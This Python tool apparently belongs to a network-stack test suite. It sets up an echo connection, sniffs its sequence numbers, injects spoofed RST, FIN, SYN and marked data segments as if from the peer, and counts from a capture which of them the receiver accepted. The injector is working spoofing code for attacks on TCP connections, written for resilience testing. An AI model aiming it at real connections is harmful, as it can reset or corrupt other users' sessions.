#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""
blind.py - blind injection into a live connection (attack_blind.sh).

Subcommands (each bounded in time and frames):
  serve  --port P [--seconds S]
         Echo server: one connection, every byte sent back, until closed.
  talk   --host H --port P --status FILE --stop FILE [--seconds S]
         Client of `serve`: a steady exchange, one 100-byte message every
         20 ms, each echo checked byte for byte; writes the count of rounds
         done to FILE after every round. Stops (FIN, exit 0) when the stop
         file appears; exits 1 on any error, reset or wrong echo.
  peek   --src A --sport P --dst B --dport Q [--seconds S]
         Watches eth0 for one segment of that tuple carrying data and prints
         its seq and ack (JSON): what an attacker that guessed the window
         would know.
  inject --src A --sport P --dst B --dport Q --dst-mac M --seq S
         --count N [--rate R] [--seed X]
         Sends, as if from A:P to B:Q, N segments of each kind:
           rst_oow      RST, seq far outside any window
           rst_inwin    RST in the window, never at the exact sequence
                        (offsets = 37 mod 100 from a seq of a stream sent in
                        100-byte messages)
           fin          FIN+ACK, random seq and ack
           syn          SYN, random seq (and a few in the window)
           data         ACK+PSH with a payload marked BLIND, random seq/ack
         Prints JSON: frames per kind.
  report PCAP --src A --sport P --dst B --dport Q
         Reads a capture taken at the receiving end and prints JSON: the
         segments of that tuple from A: rst, syn, fin, blind (payload with the
         marker), data, total.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import atk  # noqa: E402

from scapy.layers.inet import IP, TCP  # noqa: E402
from scapy.layers.inet6 import IPv6  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402

MARK = b"BLIND-INJECTED-"
MSG = 100


def _fam(addr):
	return 6 if ":" in addr else 4


def serve(a):
	fam = socket.AF_INET6 if a.v6 else socket.AF_INET
	ls = socket.socket(fam, socket.SOCK_STREAM)
	ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
	ls.bind(("::" if a.v6 else "0.0.0.0", a.port))
	ls.listen(1)
	ls.settimeout(a.seconds)
	c, _ = ls.accept()
	c.settimeout(a.seconds)
	n = 0
	while True:
		d = c.recv(65536)
		if not d:
			break
		c.sendall(d)
		n += len(d)
	c.close()
	print(json.dumps({"echoed": n}))


def talk(a):
	deadline = time.monotonic() + a.seconds
	s = socket.create_connection((a.host, a.port), timeout=10)
	s.settimeout(10)
	rounds = 0
	worst = 0.0
	while not os.path.exists(a.stop):
		if time.monotonic() > deadline:
			raise SystemExit("talk: no stop after %ss" % a.seconds)
		msg = (b"%010d" % rounds) * (MSG // 10)
		t0 = time.monotonic()
		s.sendall(msg)
		got = b""
		while len(got) < MSG:
			d = s.recv(MSG - len(got))
			if not d:
				raise SystemExit("talk: connection closed by the peer after %d rounds" % rounds)
			got += d
		if got != msg:
			raise SystemExit("talk: wrong echo in round %d" % rounds)
		worst = max(worst, time.monotonic() - t0)
		rounds += 1
		with open(a.status + ".tmp", "w") as f:
			f.write("%d\n" % rounds)
		os.replace(a.status + ".tmp", a.status)
		time.sleep(0.02)
	s.shutdown(socket.SHUT_WR)
	s.settimeout(5)
	while s.recv(65536):
		pass
	s.close()
	print(json.dumps({"rounds": rounds, "worst_round_s": round(worst, 3)}))


def _match(p, a):
	if TCP not in p:
		return None
	ipl = p[IP] if IP in p else (p[IPv6] if IPv6 in p else None)
	if ipl is None:
		return None
	t = p[TCP]
	if (t.sport == a.sport and t.dport == a.dport and
	    ipaddress.ip_address(ipl.src) == ipaddress.ip_address(a.src) and
	    ipaddress.ip_address(ipl.dst) == ipaddress.ip_address(a.dst)):
		return t
	return None


def peek(a):
	sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
	sock.bind(("eth0", 0))
	sock.settimeout(0.2)
	deadline = time.monotonic() + a.seconds
	while time.monotonic() < deadline:
		try:
			f = sock.recv(4096)
		except socket.timeout:
			continue
		p = Ether(f)
		t = _match(p, a)
		if t is not None and len(bytes(t.payload)) > 0:
			print(json.dumps({"seq": t.seq, "ack": t.ack}))
			return
	raise SystemExit("peek: no data segment of the tuple in %ss" % a.seconds)


def inject(a):
	rng = random.Random(a.seed)
	fam = atk._check_dst(a.dst)
	shape = "v4" if fam == 4 else "v6"
	snd = atk.Sender("eth0", a.rate, 60)
	smac = atk.iface_mac("eth0")
	M = 1 << 32

	def far():
		# at least 16 MB away from the live seq, either side
		return (a.seq + rng.randrange(1 << 24, M - (1 << 24))) % M

	def inwin():
		k = rng.randrange(1, 300)
		off = 100 * k + 37
		return (a.seq + off) % M if rng.random() < 0.7 else (a.seq - off) % M

	def send(flags, seq, ack, payload=b""):
		snd.send(atk.tcp_frame(shape, a.src, a.dst, a.dst_mac, smac, a.sport, a.dport,
				       flags=flags, seq=seq, ack=ack, payload=payload)[0])

	out = {}
	for _ in range(a.count):
		send("R", far(), 0)
	out["rst_oow"] = a.count
	for _ in range(a.count):
		send("R", inwin(), 0)
	out["rst_inwin"] = a.count
	for _ in range(a.count):
		send("FA", rng.getrandbits(32), rng.getrandbits(32))
	out["fin"] = a.count
	for i in range(a.count):
		send("S", inwin() if i % 10 == 0 else rng.getrandbits(32), 0)
	out["syn"] = a.count
	for i in range(a.count):
		send("PA", rng.getrandbits(32), rng.getrandbits(32), MARK + b"%06d" % i)
	out["data"] = a.count
	out["frames"] = snd.sent
	out["seconds"] = round(time.monotonic() - snd.t0, 2)
	print(json.dumps(out))


def report(a):
	r = {"total": 0, "rst": 0, "syn": 0, "fin": 0, "blind": 0, "data": 0}
	src, dst = ipaddress.ip_address(a.src), ipaddress.ip_address(a.dst)
	for f in atk._pcap_frames(a.pcap):
		ad = atk._addrs(f)   # fast: only the tuple's frames are dissected
		if ad is None or ad[0] != src or ad[1] != dst:
			continue
		t = _match(Ether(f), a)
		if t is None:
			continue
		fl = int(t.flags)
		pl = bytes(t.payload)
		r["total"] += 1
		r["rst"] += bool(fl & 0x04)
		r["syn"] += bool(fl & 0x02)
		r["fin"] += bool(fl & 0x01)
		r["blind"] += MARK in pl
		r["data"] += len(pl) > 0
	print(json.dumps(r))


def main():
	ap = argparse.ArgumentParser(description=__doc__.split("\n")[1])
	sub = ap.add_subparsers(dest="cmd", required=True)
	s = sub.add_parser("serve")
	s.add_argument("--port", type=int, required=True)
	s.add_argument("--v6", action="store_true")
	s.add_argument("--seconds", type=float, default=120)
	t = sub.add_parser("talk")
	t.add_argument("--host", required=True)
	t.add_argument("--port", type=int, required=True)
	t.add_argument("--status", required=True)
	t.add_argument("--stop", required=True)
	t.add_argument("--seconds", type=float, default=120)
	for name in ("peek", "inject", "report"):
		x = sub.add_parser(name)
		if name == "report":
			x.add_argument("pcap")
		x.add_argument("--src", required=True)
		x.add_argument("--sport", type=int, required=True)
		x.add_argument("--dst", required=True)
		x.add_argument("--dport", type=int, required=True)
		if name == "peek":
			x.add_argument("--seconds", type=float, default=10)
		if name == "inject":
			x.add_argument("--dst-mac", required=True)
			x.add_argument("--seq", type=int, required=True)
			x.add_argument("--count", type=int, required=True)
			x.add_argument("--rate", type=int, default=2000)
			x.add_argument("--seed", type=int, default=1)
	a = ap.parse_args()
	{"serve": serve, "talk": talk, "peek": peek, "inject": inject, "report": report}[a.cmd](a)


if __name__ == "__main__":
	main()
